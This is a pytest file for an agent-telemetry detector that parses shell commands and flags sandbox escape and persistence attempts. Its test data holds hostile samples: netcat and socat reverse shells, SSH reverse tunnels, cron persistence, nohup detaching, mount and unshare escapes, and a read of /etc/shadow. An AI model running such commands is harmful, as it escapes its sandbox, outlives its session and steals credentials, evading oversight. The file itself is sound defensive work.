"""The command text as observations: `path:` rules match the simple commands an agent typed (ssh with no ssh
installed, crontab, mount), argv rules the whole text, each once."""
import pytest

from rock.telemetry import load_rules
from rock.telemetry.command_text import command_observations, simple_commands
from rock.telemetry.detectors import apply_rules


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def fired(rules, command):
    return [e.rule for obs in command_observations(command, "rock-x", 1.0) for e in apply_rules(rules, obs)]


def test_simple_commands_split_lists_pipes_substitutions_and_sh_c():
    commands = simple_commands("FOO=1 sudo -u me crontab -l | grep x && echo $(mount -t proc p /mnt) 'a;b'; "
                               "bash -c 'ssh -R 1:h:2 me@h'")
    assert ["crontab", "-l"] in commands and ["mount", "-t", "proc", "p", "/mnt"] in commands
    assert ["ssh", "-R", "1:h:2", "me@h"] in commands and ["echo"] in commands


def test_redirections_are_not_words_nor_separators():
    assert simple_commands("mount > /dev/null 2>&1 && ssh -R 1:h:2 h &>/dev/null &") == [["mount"],
                                                                                         ["ssh", "-R", "1:h:2", "h"]]


@pytest.mark.parametrize("command,rule", [
    ("ssh -N -R 9000:localhost:22 me@127.0.0.1", "ssh-tunnel"),
    ("cd /tmp && timeout 5 ssh -fND 1080 me@h", "ssh-tunnel"),
    ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", "detach-tools"),
    ("nohup ./serve &", "detach-tools"),
    ("true; nc -e /bin/sh 127.0.0.1 9001", "netcat-exec"),
    ("mount -t proc proc /mnt", "mount-attempt"),
    ("unshare -r true", "escape-tools"),
    ("eval 'socat tcp:h:1 exec:/bin/sh'", "socat-exec"),
])
def test_path_rules_fire_on_the_command_text(rules, command, rule):
    assert rule in fired(rules, command)


@pytest.mark.parametrize("command", ["mount", "mount -l", "mount | grep overlay", "mount -t ext4", "mount > /dev/null",
                                     "mount 2>&1 | head -1", "mount -l 2>/dev/null",
                                     "grep -rn ssh docs/", "git commit -m 'ssh -R docs'", "echo crontab",
                                     "python3 -m http.server 3333 &",
                                     "until (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null; do sleep 0.1; done"])
def test_ordinary_commands_fire_nothing(rules, command):
    assert fired(rules, command) == []


def test_a_rule_fires_once_per_command_text(rules):
    assert fired(rules, "ssh -R 1:h:2 a; ssh -R 3:h:4 b").count("ssh-tunnel") == 2  # two commands, merged later
    assert fired(rules, "cat /etc/shadow | grep root").count("secret-files-cmd") == 1


def test_nested_wrappers_are_unwrapped_a_few_levels_and_never_explode():
    assert ["ssh", "-R", "1:h:2", "h"] in simple_commands("sudo env nice ssh -R 1:h:2 h")
    assert len(simple_commands("env " * 5000 + "ssh -R 1:h:2 h")) < 100
